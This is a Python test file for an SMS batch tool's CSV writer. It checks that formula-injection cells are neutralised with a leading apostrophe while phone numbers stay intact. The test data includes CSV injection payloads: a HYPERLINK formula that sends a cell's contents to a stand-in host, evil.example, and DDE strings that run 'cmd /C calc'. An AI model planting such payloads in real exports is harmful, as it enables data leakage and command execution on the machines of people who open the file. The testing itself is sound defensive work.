"""CSV outputs never hand Excel a formula from a list; phones and numbers stay readable.

XLSX outputs mark every text cell as text, so only CSV needs this; the rule
is ``table.writing.neutralise`` (and the README's).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from mobizon_batch.cli import main
from mobizon_batch.emulator import MobizonEmulator
from mobizon_batch.journal import Journal
from mobizon_batch.prepare import PlanOptions, build_plan
from mobizon_batch.results import IN_FLIGHT_NOTE, send_results
from mobizon_batch.table import read_table, write_table, writing
from mobizon_batch.table.writing import neutralise

HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': True,
    "@SUM(1+1)*cmd|' /C calc'!A0": True,
    "+cmd|' /C notepad'!A0": True,
    "-2+3+cmd|' /C calc'!A0": True,
    "\t=1+1": True,
    "\r=1+1": True,
    "  =1+1": True,
    "\uff1dHYPERLINK(1)": True,
    "- скидка 20%": True,
    "+7 701 234 56 78": False,
    "+7 (701) 234-56-78": False,
    "+77012345678": False,
    "-5": False,
    "-": False,
    "Привет = hello": False,
    "": False,
}


@pytest.mark.parametrize(("cell", "runs"), HOSTILE.items())
def test_the_rule(cell: str, runs: bool) -> None:
    assert neutralise(cell) == ("'" + cell if runs else cell)
    assert neutralise(neutralise(cell)) == neutralise(cell)  # a rewrite adds nothing more


def written_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_write_table_neutralises_cells_and_names_unless_raw(tmp_path: Path) -> None:
    phones = ["+7 701 234 56 78", "-", "+77012345678", "8 (701) 234-56-78"] * 4
    frame = pd.DataFrame(
        {"=name": list(HOSTILE), "n": range(len(HOSTILE)), "phone": phones[: len(HOSTILE)]}
    )
    path = tmp_path / "out.csv"
    write_table(frame, path)
    rows = written_cells(path)
    assert rows[0] == ["'=name", "n", "phone"]
    assert [row[2] for row in rows[1:]] == phones[: len(HOSTILE)]
    assert [row[0] for row in rows[1:]] == [neutralise(cell) for cell in HOSTILE]
    assert [row[1] for row in rows[1:]] == [str(n) for n in range(len(HOSTILE))]
    write_table(frame, path, raw_csv=True)
    assert [row[0] for row in written_cells(path)[1:]] == list(HOSTILE)


@pytest.mark.parametrize(
    "column",
    [
        ["1", "+\x00"],  # a NUL after the sign: no number, whatever else the column holds
        ["+7 701", "-\x005", "8 (701)"],
        ["=x", *["1"] * 5, "+\x00"],  # written in blocks: the NUL cell alone in the last one
    ],
)
def test_every_cell_is_judged_by_the_rule_whatever_its_column_and_block(
    column: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writing, "_BLOCK", 3)
    path = tmp_path / "out.csv"
    write_table(pd.DataFrame({"a": pd.Series(column, dtype="str")}), path)
    assert [row[0] for row in written_cells(path)[1:]] == [neutralise(cell) for cell in column]


LIST = [
    ["phone", "name", "text"],
    ["+7 701 234 56 78", '=HYPERLINK("http://evil.example","Скидка")', "Здравствуйте!"],
    ["+7 (702) 111-22-33", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0"],
]


def write_list(path: Path) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(LIST)
    return path


def test_validate_and_dry_run_reports_are_safe_to_open(tmp_path: Path) -> None:
    source = write_list(tmp_path / "list.csv")
    report, planned, raw = tmp_path / "report.csv", tmp_path / "planned.csv", tmp_path / "raw.csv"
    assert main(["validate", str(source), "-o", str(report), "-q"]) == 0
    assert main(["send", str(source), "-o", str(planned), "--dry-run", "-q"]) == 0
    assert main(["validate", str(source), "-o", str(raw), "-q", "--raw-csv"]) == 0
    for path in (report, planned):
        rows = written_cells(path)
        assert [row[:3] for row in rows[1:]] == [
            ["+7 701 234 56 78", '\'=HYPERLINK("http://evil.example","Скидка")', "Здравствуйте!"],
            ["+7 (702) 111-22-33", "'@SUM(A1)", "'-2+3+cmd|' /C calc'!A0"],
        ]
    assert [row[:3] for row in written_cells(raw)] == LIST


def test_send_results_are_safe_and_status_keeps_them_so(
    api_env: MobizonEmulator, tmp_path: Path
) -> None:
    source = write_list(tmp_path / "list.csv")
    results = tmp_path / "results.csv"
    assert main(["send", str(source), "-o", str(results), "-q"]) == 0
    assert main(["status", str(results), "-q"]) in (0, 4)
    rows = written_cells(results)
    assert rows[1][1].startswith("'=HYPERLINK") and rows[2][1] == "'@SUM(A1)"
    assert rows[1][0] == "+7 701 234 56 78"
    assert {m.text for m in api_env.messages()} == {"Здравствуйте!", "-2+3+cmd|' /C calc'!A0"}


def test_a_row_in_flight_is_unknown_in_the_results(tmp_path: Path) -> None:
    """``sending`` lives in the journal only; a results file says ``unknown``, and why."""
    source = write_list(tmp_path / "list.csv")
    plan = build_plan(read_table(source), PlanOptions())
    with Journal(tmp_path / "j.sqlite") as journal:
        journal.register(plan.entries())
        journal.claim([plan.rows["row_key"].iloc[0]])  # the intent, then a kill -9
        frame = send_results(plan, journal)
    assert list(frame["send_status"]) == ["unknown", "pending"]
    assert frame["error"].iloc[0] == IN_FLIGHT_NOTE
